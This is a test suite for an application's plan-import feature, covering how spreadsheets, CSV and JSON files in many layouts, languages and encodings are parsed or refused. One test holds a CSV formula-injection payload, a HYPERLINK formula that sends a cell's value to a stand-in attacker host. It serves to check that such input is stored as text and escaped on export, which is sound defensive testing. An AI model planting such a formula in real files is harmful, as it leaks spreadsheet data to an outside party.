import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { UnitOfWork } from '../../src/platform/database/unit-of-work.js';
import { Plan } from '../../src/plans/plan/plan.entity.js';
import { startApp, type TestApp } from '../support/app.js';
import type { Client } from '../support/client.js';
import { importFile, type ImportAnswer, itemsOf } from '../support/exchange.js';
import { browserOf, newPerson } from '../support/factories.js';

/*
 * Spreadsheets as they are (test/fixtures/make-imports.mjs): each ends in a correct plan, or in a message that says
 * what to do.
 */

const FOLDER = join(import.meta.dirname, '../fixtures/imports');
const MECHANISM = 'khartoum';
const PATH = `/mechanisms/${MECHANISM}/plans/import`;
const tried = new Set<string>();

let test: TestApp;
let client: Client;

beforeAll(async () => {
  test = await startApp();
  client = await browserOf(test, await newPerson(test, ['secretariat', MECHANISM]));
});
afterAll(() => test.close());

function send(name: string, query: Record<string, string> = {}): Promise<ImportAnswer> {
  tried.add(name);
  const said = { unknownOwner: 'partner', ...query };
  return importFile(client, PATH, { name, content: readFileSync(join(FOLDER, name)) }, said);
}
const look = (name: string, query: Record<string, string> = {}) => send(name, { ...query, dryRun: 'true' });

/** Items as lines: pushed in by level, with code and title. */
const outline = ({ rows }: ImportAnswer) =>
  rows
    .filter(({ outcome }) => outcome === 'new')
    .map(({ level, code, title }) => `${'  '.repeat(level - 1)}${[code, title].filter(Boolean).join(' | ')}`);
const leftOut = ({ rows }: ImportAnswer) =>
  rows.flatMap(({ row, outcome, reason }) => (outcome === 'left-out' ? [[row, reason]] : []));
const problems = ({ rows }: ImportAnswer) =>
  rows.flatMap(({ row, problems: list }) => list.map(({ column, message }) => [row, column, message]));
const notices = ({ rows }: ImportAnswer) =>
  rows.flatMap(({ row, notices: list }) => list.map(({ column, message }) => [row, column, message]));

/** The items that it makes, by code. */
async function made(name: string, query: Record<string, string> = {}) {
  const answer = await send(name, query);
  expect(answer.status).toBe(200);
  const items = await itemsOf(client, answer.plan.id);
  return Object.fromEntries(items.map((item) => [item.code as string, item])) as Record<
    string,
    Record<string, never>
  >;
}

describe('a table', () => {
  it('below a title, with headings merged over two rows', async () => {
    const answer = await look('title-above-and-two-row-heading.xlsx');
    expect(answer.readAs).toMatchObject({
      headerRow: 5,
      columns: ['code', 'title.en', 'owners', 'currency', 'needed', 'when'],
    });
    expect(outline(answer)).toEqual([
      '1 | Regional observatory',
      '  1.1 | Methodological guide',
      '2 | Training of trainers',
    ]);
    const items = await made('title-above-and-two-row-heading.xlsx');
    expect(items['1.1']).toMatchObject({
      owners: ['state:KEN', 'state:UGA'],
      funding: { currency: 'EUR', needed: '40000' },
      when: { precision: 'quarter', start: '2025-07-01', end: '2025-09-30' },
    });
  });

  it('with a column for each level, merged cells and codes within the titles', async () => {
    expect(outline(await look('domains-objectives-actions-merged.xlsx'))).toEqual([
      'Domain 1 | Legal migration',
      '  Objective 1 | Mobility',
      '    1 | Exchange programmes',
      '    2 | Skills recognition',
      '  Objective 2 | Visas',
      '    3 | Visa facilitation',
      'Domain 2 | Protection',
      '  Objective 3 | Asylum',
      '    4 | Asylum systems',
      '    5 | Resettlement',
    ]);
    const answer = await send('domains-objectives-actions-merged.xlsx', { title: 'Rabat Action Plan' });
    expect(answer.plan).toMatchObject({ levelNames: ['Domain', 'Objective', 'Action'], state: 'draft' });
  });

  it('whose codes are numbers: what is shown counts, and a lost zero is asked about', async () => {
    const answer = await look('codes-as-numbers.xlsx');
    expect(outline(answer)).toEqual([
      '1 | One',
      '  1.1 | One one',
      '  1.2 | One two',
      '  1.10 | One ten',
      '2 | Two',
      '  2.1 | Two one',
      '  2.1 | Perhaps two ten',
    ]);
    expect(notices(answer)).toEqual([[8, 'code', expect.stringContaining('may have been 2.10')]]);
  });

  it('in which the spreadsheet turned a code into a date', async () => {
    const answer = await look('code-turned-into-date.xlsx');
    expect(problems(answer)).toEqual([[3, 'code', expect.stringContaining('may have been 1.2, 2.1')]]);
    expect((await send('code-turned-into-date.xlsx')).status).toBe(422);
    const corrections = JSON.stringify({ code: { 'row 3': '1.2' } });
    const answered = await look('code-turned-into-date.xlsx', { corrections });
    expect(outline(answered)).toEqual(['1 | One', '  1.2 | Turned into a date', '  1.3 | One three']);
    expect(notices(answered)).toEqual([[3, 'code', '“1-Feb” is read as “1.2”, as you chose.']]);
  });

  it('in Arabic, with Arabic figures and words of other scripts', async () => {
    const answer = await look('arabic.xlsx');
    expect(answer.readAs).toMatchObject({ headerRow: 2, hierarchy: 'code' });
    expect(outline(answer).map((line) => line.replace(/[\u200e\u200f]/g, ''))).toEqual([
      '١ | إدارة الحدود',
      '  ١-١ | تدريب الموظفين (IOM)',
      '  ١-٢ | تبادل البيانات بين Eurostat والدول',
      '٢ | الهجرة والتنمية',
    ]);
    const items = await made('arabic.xlsx');
    expect(items['١-١']).toMatchObject({
      title: { original: 'ar' },
      owners: ['state:EGY', 'state:SDN'],
      objectives: ['11(b)'],
      when: { precision: 'quarter', start: '2025-07-01' },
    });
    expect(items['١-٢']).toMatchObject({
      owners: ['all-members'],
      status: 'planned',
      objectives: ['1', '3'],
    });
  });

  it.each([
    ['windows-1256.csv', ['1 | تعزيز التعاون؛ تبادل المعلومات', '  1.1 | تدريب']],
    [
      'windows-1252.csv',
      ['1 | Améliorer l’accès aux données\n– y compris «\u00a0ventilées\u00a0»', '  1.1 | Élaborer un guide'],
    ],
    ['unicode-text.txt', ['I | Gestión de fronteras', '  I.1 | Capacitación “consular”']],
  ])('in the characters of an older program: %s', async (name, expected) => {
    expect(outline(await look(name))).toEqual(expected);
  });

  it.each([
    ['russian-windows-1251.csv', 'Windows-1251'],
    ['russian-koi8-r.csv', 'KOI8-R'],
  ])(
    'in Russian, with what a spreadsheet made of its targets: %s goes in whole',
    async (name, characters) => {
      const corrections = JSON.stringify({ sdg: { '10-июл': '10.7', '8-авг': '8.8' } });
      const answer = await look(name, { corrections });
      expect(answer.notices[0]).toEqual({
        column: null,
        message: expect.stringContaining(`${characters}: “1.1;Обучение сотрудников`),
      });
      expect([answer.importable, leftOut(answer)]).toEqual([true, []]);
      expect(outline(answer).map((line) => line.replace(/[«»]/g, ''))).toEqual([
        '1 | Управление границами',
        '  1.1 | Обучение сотрудников пограничной службы',
        '  1.2 | Обмен данными о миграции',
        '2 | Защита прав трудящихся-мигрантов',
        '  2.1 | Горячая линия для трудящихся-мигрантов',
      ]);
      const items = await made(name, { corrections, textLanguage: 'ru' });
      expect(items).toMatchObject({
        '1': {
          objectives: ['11'],
          when: { start: '2026-01-01', end: '2028-12-31' },
          owners: ['all-members'],
        },
        '1.1': { references: ['sdg:10.7'], owners: ['state:KAZ', 'state:KGZ'], status: 'planned' },
        '1.2': { references: ['sdg:17.18'], status: 'ongoing' },
        '2': { references: ['sdg:8.8'], objectives: ['16', '6'] },
        '2.1': { references: ['sdg:8.8'], when: { start: '2027-07-01' } },
      });
    },
  );

  it('with formulas in CSV, which are text', async () => {
    const { plan } = await send('formula-injection.csv');
    const items = Object.fromEntries(
      (await itemsOf(client, plan.id)).map((item) => [item.code as string, item]),
    );
    expect(items['1']).toMatchObject({
      title: { texts: { en: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' } },
      owners: ['partner:@SUM(A1)'],
    });
    expect(items['3']).toMatchObject({ title: { texts: { en: '=kept as it is' } } });
    const csv = (await client.get(`/plans/${plan.id}/export.csv`)).body;
    expect(csv).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")`);
    expect(csv).not.toMatch(/(^|[,;\n"])[=@+]/);
  });

  it('with formulas in XLSX, whose values count; one that failed or was never calculated is said', async () => {
    const answer = await look('formulas.xlsx');
    expect(outline(answer)).toEqual(['1 | Calculated title', '4 | =HYPERLINK("http://example.org","click")']);
    expect(problems(answer)).toEqual([[3, 'when', expect.stringContaining('failed')]]);
    const items = await made('formulas.xlsx', { skipProblems: 'true' });
    expect(items).toMatchObject({
      '1': { funding: { needed: '1250.5' } },
      '3': { when: { precision: 'none' } },
    });
    expect(problems(await look('never-calculated.xlsx'))).toEqual([
      [2, 'needed', expect.stringContaining('Open the file in a spreadsheet program and save it')],
    ]);
  });

  it('with a total, notes, and another table below', async () => {
    const answer = await look('totals-notes-and-another-table.xlsx');
    expect(outline(answer)).toEqual(['A1 | Border posts', 'A2 | Visa database']);
    expect(leftOut(answer)).toEqual([
      [4, 'Looks like a total'],
      [6, 'Looks like a note to the table'],
      [7, 'Looks like a note to the table'],
      [9, 'Below the last row of the plan'],
      [10, 'Below the last row of the plan'],
      [11, 'Below the last row of the plan'],
    ]);
  });

  it('with codes like 5a and II.3, missing and double ones, and blank rows', async () => {
    const answer = await look('five-a-and-two-point-three.xlsx');
    expect(outline(answer)).toEqual([
      '5 | Return and reintegration',
      '  5a | Counselling',
      '  5b | Reintegration funds',
      '  Without a code',
      'II | Institutional',
      '  II.3 | Meetings',
      '  II.3 | Meetings, once more',
      '7.1.2 | An orphan',
    ]);
    expect(notices(answer)).toEqual([[9, 'code', expect.stringContaining('already in row 8')]]);
  });

  it('beside a hidden sheet, with a hidden row', async () => {
    const answer = await look('hidden.xlsx');
    expect(answer.readAs.sheet).toBe('Current');
    expect(outline(answer)).toEqual(['1 | Seen', '2 | In a hidden row', '3 | Seen too']);
    expect(notices(answer)).toEqual([[3, null, 'The row is hidden in the file.']]);
    expect(outline(await look('hidden.xlsx', { sheet: 'old draft' }))[0]).toBe('1 | From the hidden sheet');
  });

  it('with headings between its rows, and its own headings again', async () => {
    const answer = await look('headings-between-rows.xlsx');
    expect(outline(answer)).toEqual([
      'Pillar A – Legal pathways',
      '  1 | Seasonal work',
      '  2 | Student mobility',
      'Pillar B – Return',
      '  1 | Voluntary return',
      '  2 | Readmission talks',
    ]);
    expect(leftOut(answer)).toEqual([[7, 'Repeated headings']]);
  });

  it('whose items go over several rows', async () => {
    const items = await made('rows-that-continue.xlsx');
    expect(items['1']).toMatchObject({
      deliverables: { texts: { en: 'Curriculum\nTrainers trained\nHandbook' } },
      owners: ['state:ETH', 'state:KEN'],
    });
    expect(items['2']).toMatchObject({ deliverables: { texts: { en: 'Survey\nReport' } } });
  });

  it('with dates of every kind: which comes first, day or month, is asked and not guessed', async () => {
    const answer = await look('dates-of-every-kind.xlsx');
    expect(notices(answer).map(([row]) => row)).toEqual([2, 3, 6]);
    const [open, dayFirst] = [
      await made('dates-of-every-kind.xlsx'),
      await made('dates-of-every-kind.xlsx', { dayOrder: 'day-first' }),
    ];
    expect(open['1']).toMatchObject({ when: { precision: 'none', text: '12/03/2025' } });
    expect(dayFirst['1']).toMatchObject({ when: { precision: 'day', start: '2025-03-12' } });
    expect(open['3']).toMatchObject({ when: { precision: 'month', start: '2025-03-01' } });
    expect(open['4']).toMatchObject({ when: { precision: 'day', start: '2025-03-12' } });
    expect(open['6']).toMatchObject({ when: { precision: 'range', start: '2026-03-01', end: '2026-06-30' } });
    expect(open['8']).toMatchObject({ when: { precision: 'none', text: 'TBD' } });
    expect(open['5']).toMatchObject({ when: { precision: 'none', text: 'after the elections' } });
    expect(open['9']).toMatchObject({ when: { precision: 'day', start: '2025-12-31' } });
    expect(open['10']).toMatchObject({ when: { precision: 'recurring', start: null, text: 'yearly' } });
    expect(open['11']).toMatchObject({ when: { precision: 'open-ended' } });
    expect(open['12']).toMatchObject({ when: { text: 'mid-2024' } });
  });

  it('without headings', async () => {
    const answer = await look('no-headings.csv');
    expect(answer.readAs).toMatchObject({ headerRow: 0, columns: ['code', 'title.en', 'when'] });
    expect(outline(answer)).toHaveLength(3);
  });

  it('with money as people write it, and spaces that do not break', async () => {
    const answer = await look('money-and-odd-spaces.xlsx');
    expect(problems(answer)).toEqual([[4, 'pledged', expect.stringContaining('at most two decimals')]]);
    const items = await made('money-and-odd-spaces.xlsx', { skipProblems: 'true' });
    expect(items['1.']).toMatchObject({
      title: { texts: { en: '“Smart”\u00a0quotes' } },
      funding: { currency: 'EUR', needed: '1250000.50', pledged: '1200000' },
    });
    expect(items['2.']).toMatchObject({ funding: { needed: '1250.5', pledged: '300000' } });
    expect(items['3.']).toMatchObject({
      title: { texts: { en: 'Two\nlines' } },
      funding: { needed: '12', pledged: null },
    });
  });

  it('with words that are not understood: each is said at its row and column, and nothing is imported', async () => {
    const answer = await look('unknown-words.xlsx');
    expect(problems(answer).map(([row, column]) => [row, column])).toEqual([
      [3, 'status'],
      [3, 'objectives'],
      [3, 'crossCutting'],
      [4, 'title.en'],
    ]);
    const refused = await send('unknown-words.xlsx');
    expect(refused.status).toBe(422);
    expect(Object.keys(refused.errors)).toEqual([
      'rows.3.status',
      'rows.3.objectives',
      'rows.3.crossCutting',
      'rows.4.title.en',
    ]);
    const taken = await send('unknown-words.xlsx', { skipProblems: 'true' });
    expect(taken.counts).toMatchObject({ added: 2, leftOut: 1 });
  });

  it('whose items name the one above, in any order', async () => {
    const answer = await look('parents-in-any-order.xlsx');
    expect(outline(answer)).toEqual([
      '    C | Comes before the one above it',
      '  B | In the middle',
      'A | At the top',
    ]);
    expect(problems(answer)).toEqual([
      [5, 'parent', expect.stringContaining('below itself')],
      [6, null, expect.stringContaining('row 5')],
      [7, 'parent', expect.stringContaining('code Q')],
    ]);
  });

  it('with the names of its levels in a column', async () => {
    const answer = await look('level-names.xlsx');
    expect(answer.readAs.hierarchy).toBe('level');
    expect(outline(answer)).toEqual([
      'Protection',
      '  Asylum systems',
      '    Study visits',
      '    Guidelines',
      'Return',
    ]);
    expect(problems(answer)).toEqual([[7, 'level', expect.stringContaining('not a level')]]);
  });

  it('whose levels are told by how far they are pushed in', async () => {
    const answer = await look('pushed-in.xlsx');
    expect(answer.readAs.hierarchy).toBe('indent');
    expect(outline(answer)).toEqual([
      'Labour migration',
      '  Fair recruitment',
      '    Code of conduct',
      '  Pre-departure orientation',
      'Remittances',
    ]);
  });

  it('in two languages, one of them missing here and there', async () => {
    const items = await made('two-languages.xlsx');
    expect(items['1']).toMatchObject({
      title: { original: 'en', texts: { en: 'Training', fr: 'Formation' } },
    });
    expect(items['2']).toMatchObject({ title: { original: 'fr', texts: { fr: 'Échange de données' } } });
  });

  it('whose headings say nothing: a guess, which somebody corrects', async () => {
    const guess = await look('headings-that-say-nothing.xlsx');
    expect(guess.readAs.columns.filter((use) => use.startsWith('title.'))).toHaveLength(1);
    const columns = JSON.stringify({ Bar: 'title.en', Foo: 'code' });
    const items = await made('headings-that-say-nothing.xlsx', { headerRow: '1', columns });
    expect(items).toMatchObject({
      x: { title: { texts: { en: 'y' } } },
      z: { title: { texts: { en: 'w' } } },
    });
  });

  it('of text, called a workbook', async () => {
    expect(outline(await look('text-called-a-workbook.xlsx'))).toEqual([
      '1 | Text that calls itself a workbook',
    ]);
  });

  it('that is JSON, with lists within lists', async () => {
    expect(outline(await look('nested.json'))).toEqual(['A | Protection', '  A.1 | Shelters', 'B | Return']);
  });
});

it.each([
  ['unclosed-quote.csv', 'opened in row 2 is never closed'],
  ['web-page.xls', 'web page'],
  ['old-workbook.xls', 'save it as an Excel workbook (XLSX)'],
  ['binary-workbook.xlsb', 'Save it as an Excel workbook (XLSX)'],
  ['encrypted.xlsx', 'protected by a password'],
  ['nothing-in-it.xlsx', 'no rows with text'],
  ['broken.json', 'cannot be read'],
  ['not-a-plan.pdf', 'Save the plan as XLSX, CSV or JSON'],
  ['bomb-that-says-so.xlsx', 'unpacked file is too large'],
  ['bomb-that-lies.xlsx', 'unpacked file is too large'],
])('%s is refused with what to do about it', async (name, words) => {
  const plans = () => test.get(UnitOfWork).read.count(Plan);
  const before = await plans();
  const answer = await send(name);
  expect(answer.status).toBe(422);
  expect(answer.errors.file).toContain(words);
  expect(await plans()).toBe(before);
});

it('a file of 50 MB is refused with how large it may be', async () => {
  const answer = await importFile(client, PATH, {
    name: 'large.csv',
    content: Buffer.alloc(50_000_001, 'a'),
  });
  expect([answer.status, answer.errors.file]).toEqual([422, 'The file is larger than 25 MB.']);
});

it('every file kept here is tried', () => {
  expect(readdirSync(FOLDER).filter((name) => !tried.has(name))).toEqual([]);
});
